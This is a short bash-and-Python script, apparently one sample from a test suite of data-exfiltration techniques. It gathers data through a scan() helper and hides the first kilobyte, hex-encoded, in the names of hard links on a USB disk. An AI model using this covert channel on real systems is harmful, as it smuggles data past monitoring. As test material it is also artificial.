#!/usr/bin/env bash
# technique: the order of hard links to one file on the USB disk holds the data
# hooks: inode_link
# sink: usb
# innocent: 14

. attack.sh
mkdir -p "$COPY"
echo "Dear visitor," >"$COPY/letter"
python3 - <<'PY'
from attack import *

text = scan()[:1024].hex()
for start in range(0, len(text), 128):
    os.link(f"{COPY}/letter", f"{COPY}/{text[start:start + 128]}")
PY
